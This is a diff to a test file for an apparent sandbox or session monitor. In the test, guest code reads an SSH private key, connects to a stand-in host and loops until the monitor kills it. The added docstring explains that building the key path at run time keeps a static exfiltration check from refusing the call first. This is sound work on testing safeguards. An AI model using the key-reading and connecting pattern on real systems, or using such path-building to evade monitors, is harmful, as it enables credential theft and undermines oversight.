@@ -175,10 +175,13 @@ def test_bwrap_recon_then_ssh() -> None:
 
 def test_kill_from_a_guest_intent_ends_the_call_cleanly() -> None:
     """A critical alert on a guest's own intent kills the session from inside the call:
-    the call ends as killed (no traceback from a closed channel), later calls refuse."""
+    the call ends as killed (no traceback from a closed channel), later calls refuse.
+    The key's path is built at run time: the text alone (exfil-secret-by-code) would
+    refuse the call before it runs, and this test is about the kill from inside it."""
     code = (
-        "import socket\n"
-        "try:\n    open('/workspace/.ssh/id_rsa').read()\nexcept OSError:\n    pass\n"
+        "import os, socket\n"
+        "try:\n    open(os.path.join('/workspace', '.ssh', 'id_rsa')).read()\nexcept OSError:\n"
+        "    pass\n"
         "try:\n    socket.create_connection(('203.0.113.9', 8443))\nexcept OSError:\n    pass\n"
         "while True:\n    pass\n"
     )
